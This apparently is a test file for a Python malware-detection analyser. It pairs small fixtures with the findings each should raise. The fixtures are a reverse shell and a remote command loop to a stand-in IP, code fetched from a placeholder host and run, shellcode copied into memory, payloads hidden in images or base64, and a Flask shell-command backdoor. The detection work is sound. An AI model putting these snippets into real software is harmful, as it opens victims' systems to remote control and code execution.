import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { evaluate, lines } from '../../../support/evaluated.ts';

/** Name, the source of `own.py` or all files, and the facts in the order they are found. */
const CASES: [string, string | Record<string, string>, string[]][] = [
  [
    'reverse shell',
    `import socket, subprocess, os
s = socket.socket(); s.connect(('192.0.2.1', 4444))
os.dup2(s.fileno(), 0)
subprocess.call(['/bin/sh', '-i'])`,
    ['own.py:3 import behaviour socket-to-shell os.dup2'],
  ],
  [
    'cmd loop',
    `import socket, subprocess
s = socket.socket(); s.connect(('192.0.2.1', 4444))
while True:
    c = s.recv(1024).decode()
    p = subprocess.Popen(c, shell=True, stdout=subprocess.PIPE)
    s.send(p.stdout.read())`,
    [
      'own.py:3 import behaviour endless-loop',
      'own.py:5 import flow network-response socket.socket.recv 1024 > process subprocess.Popen «socket.socket.recv.decode»',
      'own.py:6 import flow process-output subprocess.Popen «socket.socket.recv.decode» > network-send socket.socket.send «subprocess.Popen.stdout.read»',
    ],
  ],
  [
    'exec fetch',
    `import requests
exec(requests.get('http://a.invalid').text)`,
    ['own.py:2 import flow network-response requests.get http://a.invalid > code-execution builtins.exec'],
  ],
  [
    'exec fetch session',
    `import requests
s = requests.Session()
r = s.get('http://a.invalid')
exec(r.text)`,
    [
      'own.py:4 import flow network-response requests.Session.get http://a.invalid > code-execution builtins.exec',
    ],
  ],
  [
    'exec fetch urlopen with',
    `import urllib.request
with urllib.request.urlopen('http://a.invalid') as r:
    exec(r.read())`,
    [
      'own.py:3 import flow network-response urllib.request.urlopen http://a.invalid > code-execution builtins.exec',
    ],
  ],
  [
    'async httpx',
    `import httpx, asyncio
async def m():
    async with httpx.AsyncClient() as c:
        r = await c.get('http://a.invalid')
        exec(r.text)
asyncio.run(m())`,
    [
      'own.py:5 import flow network-response httpx.AsyncClient.get http://a.invalid > code-execution builtins.exec',
    ],
  ],
  [
    'aiohttp',
    `import aiohttp, asyncio
async def m():
    async with aiohttp.ClientSession() as s:
        async with s.get('http://a.invalid') as r:
            exec(await r.text())
asyncio.run(m())`,
    [
      'own.py:5 import flow network-response aiohttp.ClientSession.get http://a.invalid > code-execution builtins.exec',
    ],
  ],
  [
    'download run',
    `import requests, subprocess
open('/tmp/x', 'wb').write(requests.get('http://a.invalid/x').content)
subprocess.run(['/tmp/x'])`,
    [
      'own.py:2 import flow network-response requests.get http://a.invalid/x > file-write open /tmp/x',
      'own.py:3 import flow network-response requests.get http://a.invalid/x > process subprocess.run /tmp/x by written to /tmp/x:2',
      'own.py:3 import flow written-file subprocess.run /tmp/x > process subprocess.run /tmp/x',
    ],
  ],
  [
    'download run var',
    `import requests, os, tempfile
p = os.path.join(tempfile.gettempdir(), 'x.exe')
with open(p, 'wb') as f:
    for chunk in requests.get('http://a.invalid/x', stream=True).iter_content(1024):
        f.write(chunk)
os.startfile(p)`,
    [
      'own.py:5 import flow network-response requests.get http://a.invalid/x > executable-write open %TEMP%/x.exe',
      'own.py:6 import flow network-response requests.get http://a.invalid/x > process os.startfile %TEMP%/x.exe by written to %TEMP%/x.exe:5',
      'own.py:6 import flow written-file os.startfile %temp%/x.exe > process os.startfile %TEMP%/x.exe',
    ],
  ],
  [
    'download urlretrieve',
    `import urllib.request, os
urllib.request.urlretrieve('http://a.invalid/x.exe', 'x.exe')
os.system('start x.exe')`,
    [
      'own.py:2 import flow network-response urllib.request.urlretrieve http://a.invalid/x.exe > executable-write urllib.request.urlretrieve x.exe',
      'own.py:3 import flow network-response urllib.request.urlretrieve http://a.invalid/x.exe > process os.system start x.exe by written to x.exe:2',
      'own.py:3 import flow written-file os.system x.exe > process os.system start x.exe',
    ],
  ],
  [
    'download function',
    `import urllib.request, subprocess
def get(url, p):
    urllib.request.urlretrieve(url, p)
    return p
subprocess.Popen([get('http://a.invalid/x', '/tmp/xyz')])`,
    [
      'own.py:3 import flow network-response urllib.request.urlretrieve http://a.invalid/x > file-write urllib.request.urlretrieve /tmp/xyz',
      'own.py:5 import flow network-response urllib.request.urlretrieve http://a.invalid/x > process subprocess.Popen /tmp/xyz by written to /tmp/xyz:3',
      'own.py:5 import flow written-file subprocess.Popen /tmp/xyz > process subprocess.Popen /tmp/xyz',
    ],
  ],
  [
    'tempfile',
    `import tempfile, subprocess, requests
f = tempfile.NamedTemporaryFile(suffix='.py', delete=False)
f.write(requests.get('http://a.invalid').content)
f.close()
subprocess.Popen(['python', f.name])`,
    [
      'own.py:3 import flow network-response requests.get http://a.invalid > code-file-write open «tempfile.NamedTemporaryFile».py',
      'own.py:5 import flow network-response requests.get http://a.invalid > process subprocess.Popen python «tempfile.NamedTemporaryFile».py by written to «tempfile.NamedTemporaryFile».py:3',
      'own.py:5 import flow written-file subprocess.Popen «tempfile.namedtemporaryfile».py > process subprocess.Popen python «tempfile.NamedTemporaryFile».py',
    ],
  ],
  [
    'mkstemp',
    `import tempfile, subprocess, requests, os
fd, p = tempfile.mkstemp()
os.write(fd, requests.get('http://a.invalid').content)
os.close(fd)
subprocess.Popen([p])`,
    [
      'own.py:3 import flow network-response requests.get http://a.invalid > file-write os.write «tempfile.mkstemp»',
      'own.py:5 import flow network-response requests.get http://a.invalid > process subprocess.Popen «tempfile.mkstemp» by written to «tempfile.mkstemp»:3',
      'own.py:5 import flow written-file subprocess.Popen «tempfile.mkstemp» > process subprocess.Popen «tempfile.mkstemp»',
    ],
  ],
  [
    'pickle loads net',
    `import pickle, requests
pickle.loads(requests.get('http://a.invalid').content)`,
    [
      'own.py:2 import flow network-response requests.get http://a.invalid > deserialise pickle.loads «requests.get.content»',
    ],
  ],
  [
    'cdll',
    `import ctypes, urllib.request
urllib.request.urlretrieve('http://a.invalid/x.so', '/tmp/x.so')
ctypes.CDLL('/tmp/x.so')`,
    [
      'own.py:2 import flow network-response urllib.request.urlretrieve http://a.invalid/x.so > executable-write urllib.request.urlretrieve /tmp/x.so',
      'own.py:3 import flow network-response urllib.request.urlretrieve http://a.invalid/x.so > native-load ctypes.CDLL /tmp/x.so by written to /tmp/x.so:2',
      'own.py:3 import flow written-file ctypes.CDLL /tmp/x.so > native-load ctypes.CDLL /tmp/x.so',
    ],
  ],
  [
    'import downloaded',
    `import urllib.request, sys
urllib.request.urlretrieve('http://a.invalid/x.py', '/tmp/evilmod.py')
sys.path.insert(0, '/tmp')
import evilmod`,
    [
      'own.py:2 import flow network-response urllib.request.urlretrieve http://a.invalid/x.py > code-file-write urllib.request.urlretrieve /tmp/evilmod.py',
      'own.py:4 import flow network-response urllib.request.urlretrieve http://a.invalid/x.py > code-execution import evilmod by written to /tmp/evilmod.py:2',
      'own.py:4 import flow written-file import /tmp/evilmod.py > code-execution import evilmod',
    ],
  ],
  [
    'own data exec',
    {
      'own/__init__.py': `import os
exec(open(os.path.join(os.path.dirname(__file__), 'data.txt')).read())`,
      'own/data.txt': `import os
os.system('print(1)')`,
    },
    [
      'own/__init__.py:2 import flow own-data-file open own/data.txt > code-execution builtins.exec 31 characters',
    ],
  ],
  [
    'own data pathlib',
    {
      'own/__init__.py': `from pathlib import Path
exec((Path(__file__).parent / 'data.txt').read_text())`,
      'own/data.txt': `import os
os.system('print(1)')`,
    },
    [
      'own/__init__.py:2 import flow own-data-file pathlib.Path.read own/data.txt > code-execution builtins.exec 31 characters',
    ],
  ],
  [
    'own data pkgutil',
    {
      'own/__init__.py': `import pkgutil
exec(pkgutil.get_data(__name__, 'data.txt'))`,
      'own/data.txt': `import os
os.system('print(1)')`,
    },
    [
      'own/__init__.py:2 import flow own-data-file pkgutil.get_data own/data.txt > code-execution builtins.exec 31 characters',
    ],
  ],
  [
    'own data importlib resources',
    {
      'own/__init__.py': `from importlib import resources
exec(resources.files(__package__).joinpath('data.txt').read_text())
exec(resources.read_text('own', 'data.txt'))`,
      'own/data.txt': `import os
os.system('print(1)')`,
    },
    [
      'own/__init__.py:2 import flow own-data-file pathlib.Path.read own/data.txt > code-execution builtins.exec 31 characters',
      'own/__init__.py:3 import flow own-data-file importlib.resources.read_text own/data.txt > code-execution builtins.exec 31 characters',
    ],
  ],
  [
    'own data b64',
    {
      'own/__init__.py': `import base64, os
here = os.path.dirname(os.path.abspath(__file__))
with open(here + '/data.bin', 'rb') as f:
    exec(base64.b64decode(f.read()))`,
      'own/data.bin': 'aW1wb3J0IG9zCm9zLnN5c3RlbSgncHJpbnQoMSknKQojIGluZXJ0IGluZXJ0IGluZXJ0',
    },
    [
      'own/__init__.py:4 import flow own-data-file open own/data.bin > code-execution builtins.exec 51 characters by base64.b64decode:4',
      'own/__init__.py:4 import flow decoded base64.b64decode 68 characters > code-execution builtins.exec 51 characters',
    ],
  ],
  [
    'run own binary',
    {
      'own/__init__.py': `import os, subprocess
subprocess.Popen([os.path.join(os.path.dirname(__file__), 'tool.exe')])`,
      'own/tool.exe': 'MZ',
    },
    ['own/__init__.py:2 import behaviour runs-own-file own/tool.exe'],
  ],
  [
    'memory net',
    `import ctypes, urllib.request
sc = urllib.request.urlopen('http://a.invalid').read()
p = ctypes.windll.kernel32.VirtualAlloc(0, len(sc), 0x3000, 0x40)
ctypes.windll.kernel32.RtlMoveMemory(p, sc, len(sc))`,
    [
      'own.py:3 import flow network-response urllib.request.urlopen http://a.invalid > memory ctypes.windll.kernel32.VirtualAlloc 0',
      'own.py:4 import flow network-response urllib.request.urlopen http://a.invalid > memory ctypes.windll.kernel32.RtlMoveMemory «ctypes.windll.kernel32.VirtualAlloc»',
    ],
  ],
  [
    'mmap',
    `import mmap, urllib.request, ctypes
b = mmap.mmap(-1, 100, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
b.write(urllib.request.urlopen('http://a.invalid').read())`,
    [
      'own.py:3 import flow network-response urllib.request.urlopen http://a.invalid > memory mmap.mmap.write «urllib.request.urlopen.read»',
    ],
  ],
  [
    'dyn import net',
    `import requests
__import__(requests.get('http://a.invalid').text)`,
    [
      'own.py:2 import flow network-response requests.get http://a.invalid > dynamic-import builtins.__import__',
    ],
  ],
  [
    'stegano',
    `from PIL import Image
im = Image.open('x.png')
s = ''.join(chr(p[0]) for p in im.getdata())
exec(s)`,
    ['own.py:4 import flow image-pixels PIL.Image.open.getdata > code-execution builtins.exec'],
  ],
  [
    'judyb',
    `from judyb import lsb
exec(lsb.reveal('x.png'))`,
    ['own.py:2 import flow image-pixels judyb.lsb.reveal x.png > code-execution builtins.exec'],
  ],
  [
    'eval input',
    'exec(input())',
    ['own.py:1 import flow user-input builtins.input > code-execution builtins.exec'],
  ],
  [
    'exec stdin',
    `import sys
exec(sys.stdin.read())`,
    ['own.py:2 import flow user-input sys.stdin.read > code-execution builtins.exec'],
  ],
  [
    'exec json',
    `import json, requests
exec(json.loads(requests.get('http://a.invalid').text)['code'])`,
    ['own.py:2 import flow network-response requests.get http://a.invalid > code-execution builtins.exec'],
  ],
  [
    'exec decode net',
    `import base64, requests
exec(base64.b64decode(requests.get('http://a.invalid').content))`,
    [
      'own.py:2 import flow network-response requests.get http://a.invalid > code-execution builtins.exec by base64.b64decode:2',
      'own.py:2 import flow decoded base64.b64decode > code-execution builtins.exec',
    ],
  ],
  [
    'exec regex net',
    `import re, requests
exec(re.search('x(.*)y', requests.get('http://a.invalid').text).group(1))`,
    ['own.py:2 import flow network-response requests.get http://a.invalid > code-execution builtins.exec'],
  ],
  [
    'dns txt exec',
    `import dns.resolver
for r in dns.resolver.resolve('a.invalid', 'TXT'):
    exec(r.to_text())`,
    ['own.py:3 import flow network-response dns.resolver.resolve a.invalid > code-execution builtins.exec'],
  ],
  [
    'flask',
    `from flask import Flask, request
import subprocess
app = Flask(__name__)
@app.route('/x')
def x():
    return subprocess.check_output(request.args.get('c'), shell=True)
app.run()`,
    [
      'own.py:6 call flow network-response flask.request.args.get c > process subprocess.check_output «flask.request.args.get»',
    ],
  ],
];

describe('what comes in and is run', () => {
  for (const [name, files, expected] of CASES) {
    it(name, () => assert.deepEqual(lines(evaluate(files), 'flow', 'behaviour'), expected));
  }
});
